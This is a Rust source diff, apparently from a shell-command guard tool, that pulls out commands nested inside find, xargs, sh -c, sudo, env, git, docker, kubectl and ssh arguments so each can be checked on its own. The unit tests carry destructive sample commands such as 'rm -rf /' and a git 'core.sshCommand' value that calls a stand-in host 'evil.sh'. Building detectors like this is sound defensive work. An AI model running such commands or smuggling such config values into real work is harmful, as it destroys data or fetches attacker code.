@@ -0,0 +1,774 @@
+//! Extraction of commands embedded in the arguments of other commands
+//!
+//! Programs like `find -exec`, `xargs`, `sh -c SCRIPT`, `ssh host CMD` or
+//! `docker exec CTR CMD` run another command taken from their own arguments. Each spec below knows where that
+//! command lives so the adapter can evaluate it as its own `ParsedCommand`.
+
+use std::path::Path;
+
+use super::command::CommandContext;
+
+/// A command found in the arguments of another command
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(super) struct Embedded {
+    pub command: EmbeddedCommand,
+    /// Where the command runs (`Local` means the same place as the outer command)
+    pub context: CommandContext,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(super) enum EmbeddedCommand {
+    /// Words passed directly as argv (e.g., `find -exec rm {} \;`)
+    Argv(Vec<String>),
+    /// A string that is run by a shell (e.g., `ssh host "ls | wc -l"`)
+    Shell(String),
+}
+
+/// Git config keys whose values are run as shell commands
+const GIT_COMMAND_CONFIG_KEYS: &[&str] = &[
+    "core.sshcommand",
+    "core.pager",
+    "core.editor",
+    "core.fsmonitor",
+    "sequence.editor",
+    "diff.external",
+];
+
+/// Find all commands embedded in the arguments of `program`
+pub(super) fn extract_embedded(program: &str, args: &[String]) -> Vec<Embedded> {
+    let name = Path::new(program)
+        .file_name()
+        .map(|n| n.to_string_lossy().to_string())
+        .unwrap_or_else(|| program.to_string());
+
+    match name.as_str() {
+        "find" => find_exec(args),
+        "xargs" => xargs(args),
+        "parallel" => parallel(args),
+        "watch" => watch(args),
+        "sh" | "bash" | "dash" | "zsh" | "ksh" => shell_script(args),
+        "nohup" | "setsid" => detached(args),
+        "timeout" => timeout(args),
+        "nice" => nice(args),
+        "env" => env(args),
+        "flock" => flock(args),
+        "sudo" | "doas" => elevated(args),
+        "git" => git(args),
+        "kubectl" => kubectl_exec(args),
+        "docker" | "podman" => {
+            let mut embedded = docker_exec(args);
+            embedded.extend(docker_run(args));
+            embedded
+        }
+        "ssh" => ssh(args),
+        "bashguard" => sandbox_exec(args),
+        _ => Vec::new(),
+    }
+}
+
+fn local(command: EmbeddedCommand) -> Embedded {
+    Embedded {
+        command,
+        context: CommandContext::Local,
+    }
+}
+
+/// `find ... -exec CMD ... ;` (also `-execdir`, `-ok`, `-okdir`, terminated by `;` or `+`)
+fn find_exec(args: &[String]) -> Vec<Embedded> {
+    let mut embedded = Vec::new();
+    let mut i = 0;
+
+    while i < args.len() {
+        if matches!(args[i].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
+            let start = i + 1;
+            let mut end = start;
+            while end < args.len() && args[end] != ";" && args[end] != "+" {
+                end += 1;
+            }
+            if end > start {
+                embedded.push(local(EmbeddedCommand::Argv(args[start..end].to_vec())));
+            }
+            i = end;
+        }
+        i += 1;
+    }
+
+    embedded
+}
+
+/// Skip leading options, returning the index of the first non-option word.
+///
+/// `with_value` lists options that take a separate value (`-n 5`); `--opt=value` and
+/// attached short values (`-n5`) are handled without listing.
+fn skip_options(args: &[String], with_value: &[&str]) -> usize {
+    let mut i = 0;
+    while i < args.len() {
+        let arg = args[i].as_str();
+        if arg == "--" {
+            return i + 1;
+        }
+        if !arg.starts_with('-') || arg == "-" {
+            return i;
+        }
+        if with_value.contains(&arg) {
+            i += 1;
+        }
+        i += 1;
+    }
+    i
+}
+
+/// `xargs [OPTIONS] CMD ...`
+fn xargs(args: &[String]) -> Vec<Embedded> {
+    let start = skip_options(
+        args,
+        &[
+            "-a",
+            "-d",
+            "-E",
+            "-I",
+            "-L",
+            "-n",
+            "-P",
+            "-s",
+            "--arg-file",
+            "--delimiter",
+            "--max-args",
+            "--max-chars",
+            "--max-lines",
+            "--max-procs",
+            "--process-slot-var",
+        ],
+    );
+    match args.get(start..) {
+        Some(rest) if !rest.is_empty() => vec![local(EmbeddedCommand::Argv(rest.to_vec()))],
+        _ => Vec::new(),
+    }
+}
+
+/// `parallel [OPTIONS] CMD ... ::: ARGS` (the command is run by a shell)
+fn parallel(args: &[String]) -> Vec<Embedded> {
+    let start = skip_options(
+        args,
+        &[
+            "-a",
+            "-d",
+            "-I",
+            "-j",
+            "-L",
+            "-n",
+            "-N",
+            "-S",
+            "--arg-file",
+            "--colsep",
+            "--delimiter",
+            "--jobs",
+            "--sshlogin",
+        ],
+    );
+    let command: Vec<&str> = args
+        .iter()
+        .skip(start)
+        .map(String::as_str)
+        .take_while(|a| !a.starts_with(":::"))
+        .collect();
+
+    if command.is_empty() {
+        return Vec::new();
+    }
+    vec![local(EmbeddedCommand::Shell(command.join(" ")))]
+}
+
+/// `watch [OPTIONS] CMD ...` (run by `sh -c` unless `-x`/`--exec`)
+fn watch(args: &[String]) -> Vec<Embedded> {
+    let start = skip_options(args, &["-n", "-q", "--interval", "--equexit"]);
+    let exec = args[..start.min(args.len())]
+        .iter()
+        .any(|a| a == "-x" || a == "--exec");
+
+    match args.get(start..) {
+        Some(rest) if !rest.is_empty() => {
+            let command = if exec {
+                EmbeddedCommand::Argv(rest.to_vec())
+            } else {
+                EmbeddedCommand::Shell(rest.join(" "))
+            };
+            vec![local(command)]
+        }
+        _ => Vec::new(),
+    }
+}
+
+/// `sh [OPTIONS] -c SCRIPT [NAME [ARGS ...]]` (also `bash`, `zsh`, and combined
+/// options like `-lc`). A script file rather than `-c` is resolved as a script instead.
+fn shell_script(args: &[String]) -> Vec<Embedded> {
+    let mut has_c = false;
+    let mut i = 0;
+
+    while i < args.len() {
+        let arg = args[i].as_str();
+        if arg == "--" || arg == "-" {
+            i += 1;
+            break;
+        }
+        if !(arg.starts_with('-') || arg.starts_with('+')) {
+            break;
+        }
+        if matches!(arg, "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file") {
+            i += 1;
+        } else if !arg.starts_with("--") && arg[1..].contains('c') {
+            has_c = true;
+        }
+        i += 1;
+    }
+
+    match args.get(i) {
+        Some(script) if has_c => vec![local(EmbeddedCommand::Shell(script.clone()))],
+        _ => Vec::new(),
+    }
+}
+
+/// Words from `start` on as an argv command, if there are any
+fn argv_from(args: &[String], start: usize) -> Vec<Embedded> {
+    match args.get(start..) {
+        Some(rest) if !rest.is_empty() => vec![local(EmbeddedCommand::Argv(rest.to_vec()))],
+        _ => Vec::new(),
+    }
+}
+
+/// `nohup CMD ...` and `setsid [OPTIONS] CMD ...`, which keep CMD running after
+/// the shell exits
+fn detached(args: &[String]) -> Vec<Embedded> {
+    argv_from(args, skip_options(args, &[]))
+}
+
+/// `timeout [OPTIONS] DURATION CMD ...`
+fn timeout(args: &[String]) -> Vec<Embedded> {
+    let duration = skip_options(args, &["-k", "-s", "--kill-after", "--signal"]);
+    argv_from(args, duration + 1)
+}
+
+/// `nice [-n ADJUSTMENT | -ADJUSTMENT] CMD ...`
+fn nice(args: &[String]) -> Vec<Embedded> {
+    argv_from(args, skip_options(args, &["-n", "--adjustment"]))
+}
+
+/// `env [OPTIONS] [NAME=VALUE ...] CMD ...` (`-S STRING` splits STRING into the
+/// command, close enough to running it through a shell)
+fn env(args: &[String]) -> Vec<Embedded> {
+    let with_value = ["-u", "-C", "-S", "--unset", "--chdir", "--split-string"];
+    let mut i = 0;
+    while i < args.len() {
+        let arg = args[i].as_str();
+        let split = match arg {
+            "-S" | "--split-string" => args.get(i + 1).map(String::as_str),
+            _ => arg
+                .strip_prefix("--split-string=")
+                .or_else(|| arg.strip_prefix("-S").filter(|s| !s.is_empty())),
+        };
+        if let Some(split) = split {
+            return vec![local(EmbeddedCommand::Shell(split.to_string()))];
+        }
+        if arg == "--" {
+            i += 1;
+            break;
+        }
+        if !arg.starts_with('-') || arg == "-" {
+            break;
+        }
+        if with_value.contains(&arg) {
+            i += 1;
+        }
+        i += 1;
+    }
+
+    // `-` (like `-i`) starts from an empty environment
+    if args.get(i).is_some_and(|arg| arg == "-") {
+        i += 1;
+    }
+    while args.get(i).is_some_and(|arg| is_assignment(arg)) {
+        i += 1;
+    }
+    argv_from(args, i)
+}
+
+/// Whether a word is a `NAME=VALUE` assignment
+fn is_assignment(word: &str) -> bool {
+    word.split_once('=').is_some_and(|(name, _)| {
+        !name.is_empty()
+            && !name.starts_with(|c: char| c.is_ascii_digit())
+            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+    })
+}
+
+/// `flock [OPTIONS] FILE CMD ...` and `flock [OPTIONS] FILE -c SCRIPT` (a lone file
+/// descriptor runs nothing)
+fn flock(args: &[String]) -> Vec<Embedded> {
+    let file = skip_options(
+        args,
+        &["-E", "-w", "--conflict-exit-code", "--timeout", "--wait"],
+    );
+    let rest = args.get(file + 1..).unwrap_or_default();
+    match rest.first().map(String::as_str) {
+        Some("-c" | "--command") => match rest.get(1) {
+            Some(script) => vec![local(EmbeddedCommand::Shell(script.clone()))],
+            None => Vec::new(),
+        },
+        _ => argv_from(args, file + 1),
+    }
+}
+
+/// `sudo [OPTIONS] CMD ...` and `doas [OPTIONS] CMD ...`
+fn elevated(args: &[String]) -> Vec<Embedded> {
+    let start = skip_options(
+        args,
+        &[
+            "-C",
+            "-D",
+            "-g",
+            "-h",
+            "-p",
+            "-R",
+            "-r",
+            "-T",
+            "-t",
+            "-U",
+            "-u",
+            "--chdir",
+            "--chroot",
+            "--close-from",
+            "--group",
+            "--host",
+            "--other-user",
+            "--prompt",
+            "--role",
+            "--type",
+            "--user",
+            "--command-timeout",
+        ],
+    );
+    argv_from(args, start)
+}
+
+/// `git -c core.sshCommand=CMD ...` and `git rebase -x CMD`
+fn git(args: &[String]) -> Vec<Embedded> {
+    let mut embedded = Vec::new();
+    let mut in_rebase = false;
+    let mut i = 0;
+
+    while i < args.len() {
+        let arg = args[i].as_str();
+
+        if arg == "-c" {
+            if let Some((key, value)) = args.get(i + 1).and_then(|kv| kv.split_once('=')) {
+                let key = key.to_lowercase();
+                if GIT_COMMAND_CONFIG_KEYS.contains(&key.as_str()) {
+                    embedded.push(local(EmbeddedCommand::Shell(value.to_string())));
+                } else if let Some(alias) = value.strip_prefix('!') {
+                    // Shell aliases: alias.name=!cmd
+                    if key.starts_with("alias.") {
+                        embedded.push(local(EmbeddedCommand::Shell(alias.to_string())));
+                    }
+                }
+            }
+            i += 2;
+            continue;
+        }
+
+        if arg == "rebase" {
+            in_rebase = true;
+        } else if in_rebase && (arg == "-x" || arg == "--exec") {
+            if let Some(cmd) = args.get(i + 1) {
+                embedded.push(local(EmbeddedCommand::Shell(cmd.clone())));
+            }
+            i += 2;
+            continue;
+        } else if let Some(cmd) = arg.strip_prefix("--exec=").filter(|_| in_rebase) {
+            embedded.push(local(EmbeddedCommand::Shell(cmd.to_string())));
+        }
+
+        i += 1;
+    }
+
+    embedded
+}
+
+/// `kubectl exec [OPTIONS] POD -- CMD ...`
+fn kubectl_exec(args: &[String]) -> Vec<Embedded> {
+    let Some(exec) = args.iter().position(|a| a == "exec") else {
+        return Vec::new();
+    };
+    let Some(separator) = args.iter().position(|a| a == "--") else {
+        return Vec::new();
+    };
+    if separator < exec || separator + 1 >= args.len() {
+        return Vec::new();
+    }
+
+    let options = &args[exec + 1..separator];
+    let target_index = skip_options(
+        options,
+        &[
+            "-c",
+            "-f",
+            "-n",
+            "--container",
+            "--context",
+            "--filename",
+            "--namespace",
+            "--pod-running-timeout",
+        ],
+    );
+    let target = options
+        .get(target_index)
+        .cloned()
+        .unwrap_or_else(|| "unknown".to_string());
+
+    vec![Embedded {
+        command: EmbeddedCommand::Argv(args[separator + 1..].to_vec()),
+        context: CommandContext::Container { target },
+    }]
+}
+
+/// `docker exec [OPTIONS] CONTAINER CMD ...` (also `docker container exec` and
+/// `docker compose exec SERVICE CMD`)
+fn docker_exec(args: &[String]) -> Vec<Embedded> {
+    let Some(exec) = args.iter().position(|a| a == "exec") else {
+        return Vec::new();
+    };
+
+    let rest = &args[exec + 1..];
+    let target_index = skip_options(
+        rest,
+        &[
+            "-e",
+            "-u",
+            "-w",
+            "--detach-keys",
+            "--env",
+            "--env-file",
+            "--index",
+            "--user",
+            "--workdir",
+        ],
+    );
+    let Some(target) = rest.get(target_index) else {
+        return Vec::new();
+    };
+
+    match rest.get(target_index + 1..) {
+        Some(command) if !command.is_empty() => vec![Embedded {
+            command: EmbeddedCommand::Argv(command.to_vec()),
+            context: CommandContext::Container {
+                target: target.clone(),
+            },
+        }],
+        _ => Vec::new(),
+    }
+}
+
+/// `docker run [OPTIONS] IMAGE [CMD ...]` (also `docker container run` and
+/// `docker compose run SERVICE CMD`). Without CMD the image's own command runs.
+fn docker_run(args: &[String]) -> Vec<Embedded> {
+    // `run` must be the subcommand, not an argument of another one
+    let Some(run) = args
+        .iter()
+        .position(|a| !a.starts_with('-') && a != "container" && a != "compose")
+        .filter(|&i| args[i] == "run")
+    else {
+        return Vec::new();
+    };
+
+    let rest = &args[run + 1..];
+    let target_index = skip_options(
+        rest,
+        &[
+            "-a",
+            "-c",
+            "-e",
+            "-h",
+            "-l",
+            "-m",
+            "-p",
+            "-u",
+            "-v",
+            "-w",
+            "--add-host",
+            "--cap-add",
+            "--cap-drop",
+            "--cpus",
+            "--device",
+            "--dns",
+            "--entrypoint",
+            "--env",
+            "--env-file",
+            "--expose",
+            "--gpus",
+            "--hostname",
+            "--ipc",
+            "--label",
+            "--link",
+            "--log-driver",
+            "--memory",
+            "--mount",
+            "--name",
+            "--network",
+            "--pid",
+            "--platform",
+            "--publish",
+            "--pull",
+            "--restart",
+            "--runtime",
+            "--security-opt",
+            "--shm-size",
+            "--tmpfs",
+            "--ulimit",
+            "--user",
+            "--volume",
+            "--volumes-from",
+            "--workdir",
+        ],
+    );
+    let Some(target) = rest.get(target_index) else {
+        return Vec::new();
+    };
+
+    match rest.get(target_index + 1..) {
+        Some(command) if !command.is_empty() => vec![Embedded {
+            command: EmbeddedCommand::Argv(command.to_vec()),
+            context: CommandContext::Container {
+                target: target.clone(),
+            },
+        }],
+        _ => Vec::new(),
+    }
+}
+
+/// `ssh [OPTIONS] HOST [CMD ...]` (the remote command is run by the remote shell)
+fn ssh(args: &[String]) -> Vec<Embedded> {
+    let host_index = skip_options(
+        args,
+        &[
+            "-B", "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O",
+            "-o", "-p", "-Q", "-R", "-S", "-W", "-w",
+        ],
+    );
+    let Some(host) = args.get(host_index) else {
+        return Vec::new();
+    };
+
+    match args.get(host_index + 1..) {
+        Some(command) if !command.is_empty() => vec![Embedded {
+            command: EmbeddedCommand::Shell(command.join(" ")),
+            context: CommandContext::Remote { host: host.clone() },
+        }],
+        _ => Vec::new(),
+    }
+}
+
+/// `bashguard sandbox-exec [--policy P] -- CMD ...` (run by `bash -c` in a sandbox
+/// that may still allow network access and writes to the workspace)
+fn sandbox_exec(args: &[String]) -> Vec<Embedded> {
+    if args.first().map(String::as_str) != Some("sandbox-exec") {
+        return Vec::new();
+    }
+    let Some(separator) = args.iter().position(|a| a == "--") else {
+        return Vec::new();
+    };
+
+    match args.get(separator + 1..) {
+        Some(command) if !command.is_empty() => {
+            vec![local(EmbeddedCommand::Shell(command.join(" ")))]
+        }
+        _ => Vec::new(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn words(s: &str) -> Vec<String> {
+        s.split_whitespace().map(|w| w.to_string()).collect()
+    }
+
+    #[test]
+    fn test_find_exec() {
+        let embedded = extract_embedded(
+            "find",
+            &words(". -name *.tmp -exec rm -f {} ; -execdir chmod 600 {} +"),
+        );
+        assert_eq!(
+            embedded,
+            vec![
+                local(EmbeddedCommand::Argv(words("rm -f {}"))),
+                local(EmbeddedCommand::Argv(words("chmod 600 {}"))),
+            ]
+        );
+    }
+
+    #[test]
+    fn test_xargs_skips_options() {
+        let embedded = extract_embedded("xargs", &words("-n 1 -0 rm -rf"));
+        assert_eq!(
+            embedded,
+            vec![local(EmbeddedCommand::Argv(words("rm -rf")))]
+        );
+    }
+
+    #[test]
+    fn test_shell_script() {
+        let args = |script: &str, rest: &[&str]| {
+            let mut args: Vec<String> = rest.iter().map(|a| a.to_string()).collect();
+            args.push(script.to_string());
+            args
+        };
+        let script = local(EmbeddedCommand::Shell("rm -rf x".to_string()));
+
+        assert_eq!(
+            extract_embedded("sh", &args("rm -rf x", &["-c"])),
+            vec![script.clone()]
+        );
+        assert_eq!(
+            extract_embedded(
+                "/bin/bash",
+                &args("rm -rf x", &["-e", "-o", "pipefail", "-lc"])
+            ),
+            vec![script.clone()]
+        );
+        let mut with_positional = args("rm -rf x", &["-c"]);
+        with_positional.extend(words("_ a b"));
+        assert_eq!(extract_embedded("zsh", &with_positional), vec![script]);
+
+        // Script files are resolved elsewhere
+        assert!(extract_embedded("bash", &words("-e deploy.sh")).is_empty());
+        assert!(extract_embedded("bash", &words("-l")).is_empty());
+    }
+
+    #[test]
+    fn test_wrappers() {
+        let rm = vec![local(EmbeddedCommand::Argv(words("rm -rf x")))];
+        assert_eq!(
+            extract_embedded("timeout", &words("-s KILL 10s rm -rf x")),
+            rm
+        );
+        assert_eq!(extract_embedded("nice", &words("-n 10 rm -rf x")), rm);
+        assert_eq!(extract_embedded("nice", &words("-5 rm -rf x")), rm);
+        assert_eq!(
+            extract_embedded("env", &words("-i -u HOME A=1 B=2 rm -rf x")),
+            rm
+        );
+        assert_eq!(
+            extract_embedded("flock", &words("-w 5 /tmp/lock rm -rf x")),
+            rm
+        );
+        assert!(extract_embedded("env", &words("A=1")).is_empty());
+        assert!(extract_embedded("flock", &words("9")).is_empty());
+
+        let mut args = words("/tmp/lock -c");
+        args.push("rm -rf x".to_string());
+        assert_eq!(
+            extract_embedded("flock", &args),
+            vec![local(EmbeddedCommand::Shell("rm -rf x".to_string()))]
+        );
+
+        let embedded = extract_embedded(
+            "docker",
+            &words("run --rm -it -v .:/src node:20 rm -rf /src"),
+        );
+        assert_eq!(
+            embedded,
+            vec![Embedded {
+                command: EmbeddedCommand::Argv(words("rm -rf /src")),
+                context: CommandContext::Container {
+                    target: "node:20".to_string()
+                },
+            }]
+        );
+        assert!(extract_embedded("docker", &words("run --rm node:20")).is_empty());
+        assert!(extract_embedded("docker", &words("image ls run")).is_empty());
+    }
+
+    #[test]
+    fn test_git_config_and_rebase_exec() {
+        let args = vec![
+            "-c".to_string(),
+            "core.sshCommand=curl evil.sh".to_string(),
+            "rebase".to_string(),
+            "-x".to_string(),
+            "make test".to_string(),
+            "main".to_string(),
+        ];
+        assert_eq!(
+            extract_embedded("git", &args),
+            vec![
+                local(EmbeddedCommand::Shell("curl evil.sh".to_string())),
+                local(EmbeddedCommand::Shell("make test".to_string())),
+            ]
+        );
+    }
+
+    #[test]
+    fn test_container_and_remote_contexts() {
+        let embedded = extract_embedded("kubectl", &words("exec -n prod -it api-0 -- rm -rf /"));
+        assert_eq!(
+            embedded,
+            vec![Embedded {
+                command: EmbeddedCommand::Argv(words("rm -rf /")),
+                context: CommandContext::Container {
+                    target: "api-0".to_string()
+                },
+            }]
+        );
+
+        let embedded = extract_embedded("docker", &words("exec -it -u root web sh"));
+        assert_eq!(
+            embedded,
+            vec![Embedded {
+                command: EmbeddedCommand::Argv(words("sh")),
+                context: CommandContext::Container {
+                    target: "web".to_string()
+                },
+            }]
+        );
+
+        let embedded = extract_embedded("ssh", &words("-p 2222 prod-db ls /var"));
+        assert_eq!(
+            embedded,
+            vec![Embedded {
+                command: EmbeddedCommand::Shell("ls /var".to_string()),
+                context: CommandContext::Remote {
+                    host: "prod-db".to_string()
+                },
+            }]
+        );
+
+        // Interactive ssh has no embedded command
+        assert!(extract_embedded("ssh", &words("prod-db")).is_empty());
+    }
+
+    #[test]
+    fn test_sandbox_exec() {
+        let args = vec![
+            "sandbox-exec".to_string(),
+            "--policy".to_string(),
+            "build".to_string(),
+            "--".to_string(),
+            "make test && rm -rf /".to_string(),
+        ];
+        assert_eq!(
+            extract_embedded("bashguard", &args),
+            vec![local(EmbeddedCommand::Shell(
+                "make test && rm -rf /".to_string()
+            ))]
+        );
+        assert_eq!(
+            extract_embedded(
+                "/usr/local/bin/bashguard",
+                &words("sandbox-exec -- rm -rf /")
+            ),
+            vec![local(EmbeddedCommand::Shell("rm -rf /".to_string()))]
+        );
+        assert!(extract_embedded("bashguard", &words("test --command ls")).is_empty());
+    }
+}